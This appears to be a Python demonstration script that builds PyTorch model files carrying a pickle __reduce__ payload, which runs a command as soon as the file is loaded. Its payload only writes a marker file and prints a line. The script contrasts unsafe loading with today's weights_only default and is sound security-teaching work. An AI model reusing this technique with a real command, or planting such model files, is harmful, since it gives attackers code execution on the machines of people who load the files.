"""Attack: a model file that runs a command the moment somebody loads it.

    python create_malicious_model.py            writes malicious_model.pt
    python create_malicious_model.py attack     loads it: first as PyTorch does today, then as people used to
    python create_malicious_model.py --list     names other ways to hide the command, for example resnet18
    python create_malicious_model.py attack --variant resnet18

The command is harmless: it prints one line and writes a marker file, nothing else.
"""

from __future__ import annotations

import os
import pickle
import shlex
import sys
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

import cli
import variants
from variants import OTHER_PLACES, Variant
from weights.safe_loading import why_refused

MESSAGE = "This code ran because a model file was loaded."
MARKER = Path("/tmp/pwned_by_pickle.txt")
SHELL = Path("/bin/sh")
DEFAULT = "system"


# --- the attack ------------------------------------------------------------------------------------------


class Payload:
    """An object that pickles as "call this function with this argument"."""

    def __init__(self, function: Callable[..., Any], argument: object) -> None:
        self.function, self.argument = function, argument

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[object]]:
        # The whole attack is this line: pickle calls what __reduce__ returns, with no question asked.
        return self.function, (self.argument,)


def plain_attack(payload: Payload) -> bytes:
    """A model file that holds nothing but the payload."""
    return variants.saved(payload)  # torch.save


def shell_text(marker: Path) -> str:
    """The harmless shell command: write the marker, print one line."""
    return f"echo '{MESSAGE}' > {shlex.quote(str(marker))}; echo '    >>> {MESSAGE} <<<'"


def python_text(marker: Path) -> str:
    """The same as Python text, for images that have no shell. A missing shell is no defence."""
    return (
        f"open({str(marker)!r}, 'w').write({MESSAGE + chr(10)!r}); print('    >>> {MESSAGE} <<<', flush=True)"
    )


def payload_for(variant: Variant, marker: Path) -> Payload:
    """The call that this variant hides. Where there is no shell, Python text takes its place."""
    if variant.calls:  # PyTorch's own helper that starts a command
        return Payload(
            variant.calls,
            shell_text(marker) if SHELL.exists() else [sys.executable, "-c", python_text(marker)],
        )
    return Payload(os.system, shell_text(marker)) if SHELL.exists() else Payload(exec, python_text(marker))


PLAIN = Variant(
    DEFAULT,
    Path("malicious_model.pt"),
    "A file that holds nothing but a call of os.system.",
    "https://docs.python.org/3/library/pickle.html#restricting-globals",
    variants.TORCH_LOAD,
    plain_attack,
    variants.unsafe_torch_load,
)
VARIANTS = {DEFAULT: PLAIN, **OTHER_PLACES}


def malicious_bytes(name: str, marker: Path, model: torch.nn.Module | None = None) -> bytes:
    """The bytes of a variant. `model` takes the place of the trained ResNet18, which takes seconds."""
    payload = payload_for(VARIANTS[name], marker)
    return variants.resnet18(payload, model) if name == "resnet18" else VARIANTS[name].write(payload)


def is_ours(variant: Variant, path: Path, marker: Path) -> bool:
    """Whether the file holds this variant with our harmless payload, and no other program."""
    return variants.is_ours(variant, path, payload_for(variant, marker))


# --- the commands ----------------------------------------------------------------------------------------


def clear_marker(marker: Path) -> None:
    """Remove the marker of an earlier run, but never a file that this demo did not write."""
    there = marker.is_symlink() or marker.exists()
    ours = marker.is_file() and not marker.is_symlink() and MESSAGE in marker.read_text(errors="replace")
    if there and not ours:
        raise cli.UserError(f"{marker} exists and is not ours: choose another place with --marker.")
    try:
        marker.touch()
        marker.unlink()
    except OSError as error:
        raise cli.UserError(
            f"Cannot write {marker} ({error.strerror}): choose another place with --marker."
        ) from error


def create(variant: Variant, model: Path, marker: Path, out: cli.Out) -> None:
    """Write the malicious model file."""
    with cli.atomic_write(model) as path:  # first, so that a place that cannot be written is known now
        if variant.name == "resnet18":
            out.say("Training a small ResNet18 first: this takes some seconds.")
            variants.trained(lambda steps: out.progress(steps, len(list(steps)), "Training"))
        path.write_bytes(malicious_bytes(variant.name, marker))


def attack(variant: Variant, model: Path, marker: Path, out: cli.Out) -> int:
    """Load the file twice and show the marker before and after. Returns 0 if the attack worked."""
    clear_marker(marker)
    if variant.name == "resnet18" or not is_ours(variant, model, marker):
        # only ever run our own payload, whatever lies there under this name
        create(variant, model, marker, out)
        out.say(f"Wrote {model}: it holds our harmless payload and nothing else that runs.")
    if not SHELL.exists():
        out.say("There is no shell here, so the payload is Python text and not a command for the shell.")

    out.heading("1. Before")
    out.say(f"{marker} exists: {marker.exists()}")

    if variant.no_safe_way:
        out.heading("2. Is there a safe default?")
        out.say(f"No: {variant.no_safe_way}.")
    else:
        try_safe_default(variant, model, marker, out)
    out.say(f"{marker} exists: {marker.exists()}")

    call = variant.how.replace("FILE", "file")
    old = variant.fire is variants.unsafe_torch_load
    before = ": the default before PyTorch 2.6" if old else ", which checks nothing"
    out.heading(f"3. {call}{before}")
    out.say("We only load the file. We call nothing that comes out of it.")
    loaded = variant.fire(model)
    what_came_out(variant, loaded, model, out)

    out.heading("4. After")
    out.say(f"{marker} exists: {marker.exists()}", "bold red")
    if not marker.exists():
        out.say("The attack did not work on this machine: the command ran, but it left no marker.")
        return cli.FINDING
    out.say(f"It says: {marker.read_text().strip()}")
    loader = "weights_only=False" if "weights_only" in call else call.split("(")[0]
    out.say(f"Loading was enough: a pickle is a program, and {loader} runs it as you.")
    return cli.OK


def try_safe_default(variant: Variant, model: Path, marker: Path, out: cli.Out) -> None:
    """Load the file as PyTorch does today."""
    out.heading("2. torch.load(file): today's default, weights_only=True")
    if "joblib" in variant.how:
        out.say("This is a joblib file. PyTorch can try to read it; joblib itself has no safe way to load.")
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            torch.load(model)
        refused = ""
    except (pickle.UnpicklingError, RuntimeError) as error:
        # where the file ran all the same, PyTorch saw too late that it is not one of its own
        reason = why_refused(error) or "it has instructions that the safe loader does not know"
        refused = "" if marker.exists() else reason
    if refused:
        out.say(f"Refused: {refused}.", "green")
    elif not marker.exists():
        out.say("Loaded as the other format that it is, SafeTensors: no code ran.", "green")
    else:
        out.say("NOT refused: TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD is set here and switches the default off.")


def what_came_out(variant: Variant, loaded: Any, model: Path, out: cli.Out) -> None:
    """Say what the victim holds after loading: often something that looks right."""
    call = variant.how.split("(")[0]
    if variant.name == "resnet18":
        from weights import shapes  # noqa: PLC0415 (takes seconds to import, and only this variant needs it)

        scores, accuracy = shapes.outputs(loaded, model)
        clean, _ = shapes.outputs(dict(variants.trained().state_dict()), model)
        out.say(f"{call} came back with {len(loaded)} tensors, the weights of a working model:")
        out.say(f"it classifies {accuracy:.1%} of {len(scores)} new images correctly.")
        change = (scores - clean).abs().max().item()
        out.say(f"Largest difference to the scores of the clean model: {change}.")
    elif isinstance(loaded, torch.export.ExportedProgram):
        out.say(f"{call} came back with a program that works. Nothing looks wrong.")
    elif isinstance(loaded, dict):
        out.say(f"{call} came back with what it promised: {', '.join(loaded)}. Nothing looks wrong.")
    else:
        out.say(f"{call} came back with {loaded!r}: that is not a model, it is what the command returned.")


def show_variants(out: cli.Out) -> None:
    """List every way to hide the command, with its public source."""
    rows = [(one.name, one.file, one.about, one.how, one.source) for one in VARIANTS.values()]
    out.table("Malicious model files", ["variant", "file", "what it is", "runs at", "published in"], rows)


def main() -> int:
    """Read the command line, create or attack."""
    arguments = cli.parser(__doc__)
    arguments.add_argument(
        "action", nargs="?", default="create", choices=["create", "attack"], help="what to do"
    )
    arguments.add_argument("--variant", default=DEFAULT, choices=VARIANTS, help="how the command is hidden")
    arguments.add_argument(
        "--list", action="store_true", help="list the variants and where each is published"
    )
    arguments.add_argument("--model", type=Path, help="the malicious model file (by default, see --list)")
    arguments.add_argument("--marker", type=Path, default=MARKER, help="the file that the payload writes")
    args = arguments.parse_args()
    out = cli.Out(args.plain)
    if args.list:
        show_variants(out)
        return cli.OK
    variant = VARIANTS[args.variant]
    model = args.model or variant.file
    marker = args.marker.absolute()
    if args.action == "attack":
        return attack(variant, model, marker, out)
    create(variant, model, marker, out)
    out.say(f"Wrote {model} ({model.stat().st_size} bytes). It looks like any other model file.")
    loader = "weights_only=False" if "weights_only" in variant.how else variant.how
    out.say(f"Whoever loads it with {loader} runs our command, which writes {marker}.")
    option = "" if variant.name == DEFAULT else f" --variant {variant.name}"
    option += f" --model {model}" if args.model else ""
    out.say(f"Now type: python create_malicious_model.py attack{option}")
    return cli.OK


if __name__ == "__main__":
    cli.run(main)
